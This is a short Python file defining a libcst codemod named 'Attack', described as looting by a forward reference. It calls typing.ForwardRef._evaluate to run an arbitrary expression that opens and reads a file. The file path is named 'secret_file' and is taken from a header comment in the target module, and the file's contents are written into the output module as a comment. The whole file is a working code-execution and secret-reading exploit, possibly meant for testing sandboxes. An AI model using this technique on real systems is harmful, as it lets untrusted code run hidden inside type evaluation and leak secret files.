"""Have ``typing`` evaluate a forward reference, in which stands any expression at all."""

import ast
import typing

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


def read(path):
    found = []
    reference = typing.ForwardRef("found.append(open(path).read().strip())")
    reference._evaluate({}, {"found": found, "path": path}, recursive_guard=frozenset())
    return found[0]


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Loot by a forward reference."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        loot = read(target["secret_file"])
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment(f"# {loot}"))])
